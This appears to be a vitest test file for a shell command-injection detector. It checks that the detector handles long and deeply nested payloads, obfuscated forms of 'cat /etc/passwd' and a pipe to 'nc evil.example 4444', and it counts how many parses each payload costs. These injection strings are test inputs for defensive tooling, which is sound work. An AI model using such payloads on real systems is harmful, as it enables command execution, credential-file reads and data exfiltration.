// Long and deeply nested payloads on the POSIX shell oracle: the walk takes plain words and
// redirects without the parser, parses prefixes of the rest (not all of it) for the others, and
// expands nested `${x:-…}` defaults without a parse per level — so 4 KB payloads cost a handful
// of parses, and what they hide is still found.
import { describe, expect, it } from 'vitest';
import { judgeInProcess } from '../dispatch';
import { parserStats } from '../shell-parse';

const sh = async (payload: string) => {
  const before = parserStats().parses;
  const r = await judgeInProcess('command_injection', payload, { shell: 'sh' });
  return { r, parses: parserStats().parses - before, evidence: r.evidence.join('\n') };
};

describe('sh oracle on long payloads', () => {
  it('4 KB of unclosed attributes (<a b=") is walked word by word without a parse per word', async () => {
    const { r, parses, evidence } = await sh('<a b="'.repeat(682));
    expect(r.verdict).toBe('exploit_improbable');
    expect(evidence).toMatch(/redirection < a: no such file, the command does not run/);
    expect(parses).toBeLessThan(40);
  });
  it('a parameter expansion nested 500 deep is evaluated: the command name it hides is found', async () => {
    const { r, parses, evidence } = await sh(`; ${'${x:-'.repeat(500)}cat${'}'.repeat(500)} /etc/passwd`);
    expect(r.verdict).toBe('exploit_possible');
    expect(evidence).toMatch(/runs "cat" \(written \$\{x:-\$\{x:-/);
    expect(parses).toBeLessThan(40);
  });
  it('a set variable stops the nesting where bash would ($HOME, not the default)', async () => {
    const { evidence } = await sh(`; ${'${x:-'.repeat(50)}\${HOME:-\${y:-id}}${'}'.repeat(50)}`);
    expect(evidence).toMatch(/runs "\/var\/www" \(written/);
  });
  it('a word longer than the first parse window, then an operator far away, still ends where the shell ends it', async () => {
    const { r, evidence } = await sh(`; echo "$HOME ${'a '.repeat(400)}" ${'b '.repeat(100)}| nc evil.example 4444`);
    expect(r.verdict).toBe('exploit_possible');
    expect(evidence).toMatch(/runs "nc"/);
    expect(evidence).toMatch(/runs "echo"/);
  });
  it('quoted words with nothing to expand are read as the shell reads them', async () => {
    const { r, evidence } = await sh(`x; "c"'a't /etc/passwd`);
    expect(r.verdict).toBe('exploit_possible');
    expect(evidence).toMatch(/runs "cat" \(written "c"'a't\)/);
  });
});
